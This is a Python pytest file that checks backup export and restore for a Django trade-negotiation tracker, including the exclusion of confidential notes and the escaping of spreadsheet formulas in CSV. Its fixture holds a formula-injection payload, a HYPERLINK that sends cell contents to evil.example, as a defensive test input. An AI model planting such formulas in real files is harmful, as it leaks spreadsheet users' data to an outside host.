"""export_all → import_all into an empty database gives back every record: seed, synthetic data
and edits of every kind, compared as a canonical dump of every domain table."""

import datetime as dt

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.utils import translation

from negotiations import services
from negotiations.choices import DatePrecision, PartyKind, ProgressStatus, Visibility
from negotiations.models import Agreement, BlocMembership, Chapter, Party, ProgressNote, Round, Source
from tests import factories
from tests.backup_support import canonical_dump, domain_tables_empty

# Cells a spreadsheet would run as formulas, and text whose edges matter: all come back as typed.
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_TEXTS = ["+51 1 234 5678", "-5 tariff lines", "@chief", "'=quoted", "\tindented\r\nsecond line ", " ", "\\N"]


@pytest.fixture
def record(seeded, django_user_model):
    """Seed, synthetic data at 1/500 of scale L, and one edit of every kind the backup must carry."""
    call_command("generate_synthetic", factor=0.002, seed=3, verbosity=0)
    official = factories.user("maria.official", role="Official")
    desk = Group.objects.create(name="Peru desk")
    agreement = Agreement.objects.get(slug="india-peru-ta")
    agreement.editors.add(official)
    agreement.editor_groups.add(desk, Group.objects.get(name="Official"))

    round_obj = agreement.rounds.order_by("start_date").first()
    services.round_update(
        round=round_obj, title=HOSTILE_TITLE, venue_note=HOSTILE_TEXTS[0], expected_version=round_obj.version
    )
    chapter = Chapter.objects.get(code="ROO")
    services.reference_save(instance=chapter, name_es="Reglas de origen (revisadas)")
    services.note_add(round=round_obj, chapter=chapter, text="Public: rules of origin text exchanged.", author=official)
    services.note_add(round=round_obj, text="Se intercambiaron ofertas de bienes.", language="es", author=official)
    services.note_add(
        round=round_obj, text="Confidential, no chapter: " + HOSTILE_TEXTS[2], visibility=Visibility.CONFIDENTIAL
    )
    for text in HOSTILE_TEXTS[1:]:
        services.note_add(round=round_obj, text=text, author=official)
    services.chapter_progress_set(round=round_obj, chapter=chapter, status=ProgressStatus.DISCUSSED, note="-")
    source = services.reference_save(
        instance=Source(),
        url="https://example.org/andina-2025-08",
        title="Peru and India hold eighth round",
        publisher="Andina",
        published_on=dt.date(2025, 8, 14),
        published_precision=DatePrecision.DAY,
        language="es",
        note=HOSTILE_TEXTS[3],
    )
    services.citations_set(owner=round_obj, sources=[(source, "says the round met in Lima", True)])
    bloc = Party.objects.filter(kind=PartyKind.BLOC).order_by("code").first()
    member = Party.objects.filter(kind=PartyKind.COUNTRY).exclude(bloc_memberships__bloc=bloc).order_by("code").first()
    services.reference_save(
        instance=BlocMembership(bloc=bloc, member=member),
        joined_on=dt.date(1990, 1, 1),
        joined_precision=DatePrecision.YEAR,
        left_on=dt.date(2001, 3, 1),
        left_precision=DatePrecision.MONTH,
        note="left",
    )
    return round_obj


def _restore(directory):
    domain_tables_empty()
    assert Agreement.objects.count() == 0
    call_command("import_all", str(directory), verbosity=0)


def test_everything_comes_back_and_without_confidential_everything_but_those_notes(record, tmp_path):
    """One recorded state (seeding it is the slow part), three backups of it restored in turn."""
    before = canonical_dump()
    note_table = "negotiations.ProgressNote"
    confidential = ProgressNote.objects.filter(visibility=Visibility.CONFIDENTIAL).count()
    assert confidential > 1 and len(before[note_table]) > confidential
    highest_round = Round.objects.order_by("-pk").values_list("pk", flat=True).first()
    for name, options in {
        "csv": ["--include-confidential"],
        "json": ["--include-confidential", "--format", "json"],
        "public": [],
    }.items():
        with translation.override("es"):  # the stored columns, whatever the language
            call_command("export_all", str(tmp_path / name), *options, verbosity=0)

    # Safe to open in a spreadsheet (the one CSV writer's apostrophe), yet restored as typed.
    assert "'" + HOSTILE_TITLE.replace('"', '""') in (tmp_path / "csv" / "rounds.csv").read_text()

    for name in ("csv", "json"):
        _restore(tmp_path / name)
        after = canonical_dump()
        for table in before:
            assert after[table] == before[table], (name, table)
        # Ids are kept too: a link to a round still opens that round.
        assert Round.objects.get(pk=record.pk).title == HOSTILE_TITLE

    _restore(tmp_path / "public")
    after = canonical_dump()
    public = [row for row in before[note_table] if dict(row)["visibility"] == Visibility.PUBLIC]
    assert after[note_table] == public
    assert len(before[note_table]) - len(public) == confidential
    for table in before:
        if table != note_table:
            assert after[table] == before[table], table

    created = factories.round_(Agreement.objects.get(slug="india-peru-ta"), number=99)
    assert created.pk > highest_round  # new records continue after the restored ids
